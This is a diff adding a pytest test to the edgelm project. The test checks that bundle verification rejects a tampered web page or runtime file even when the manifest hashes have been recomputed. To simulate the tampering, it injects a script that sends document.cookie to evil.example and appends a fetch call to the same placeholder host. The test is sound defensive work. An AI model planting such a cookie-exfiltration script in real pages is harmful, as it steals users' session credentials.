@@ -115,6 +115,32 @@ def test_web_bundle_verifies_and_runs_in_edgelm(run_cli, web_bundles):
     assert code == 0 and json.loads(out)["tokens"] == expected, err
 
 
+@needs_runtime
+@pytest.mark.parametrize("changed", ["index.html", "ort.webgpu.min.mjs", "web_runtime"])
+def test_a_web_bundles_page_or_runtime_changed_inside_it_fails_verify(run_cli, web_bundles, tmp_path, changed):
+    """Stranger 27: a `<script>` sending document.cookie away added to index.html, the manifest's sha256 made again, passed
+    verify (which named neither page nor runtime) and `edgelm serve` served it. The page must be this edgelm's own and the
+    runtime the pinned published files, whatever the manifest says."""
+    import hashlib
+
+    bundle = shutil.copytree(web_bundles("tiny-rope")[0], tmp_path / "bundle")
+    code, out, err = run_cli("verify", bundle)
+    assert code == 0 and "web page: edgelm" in out and "onnxruntime-web 1.30.0" in out, (out, err)
+    manifest = json.loads((bundle / "edgelm.json").read_text())
+    if changed == "web_runtime":
+        manifest["web_runtime"]["onnxruntime-web"] = "1.31.0"
+        expected = "the manifest states the web runtime"
+    else:
+        path = bundle / changed
+        path.write_bytes(path.read_bytes().replace(b"</body>", b"<script>fetch('https://evil.example/?k='+document.cookie)</script></body>")
+                         if changed == "index.html" else path.read_bytes() + b"\nfetch('https://evil.example/');\n")
+        manifest["files"][changed] = {"sha256": hashlib.sha256(path.read_bytes()).hexdigest(), "bytes": path.stat().st_size}
+        expected = "is not the page edgelm" if changed == "index.html" else "is not onnxruntime-web 1.30.0's published file"
+    (bundle / "edgelm.json").write_text(json.dumps(manifest))
+    code, out, err = run_cli("verify", bundle)
+    assert code == 1 and expected in err, (code, out, err)
+
+
 def test_web_bundle_bad_input(run_cli, preset_dir, tmp_path):
     from edgelm.export.gguf import export_gguf
     from edgelm.export.onnx import export_onnx
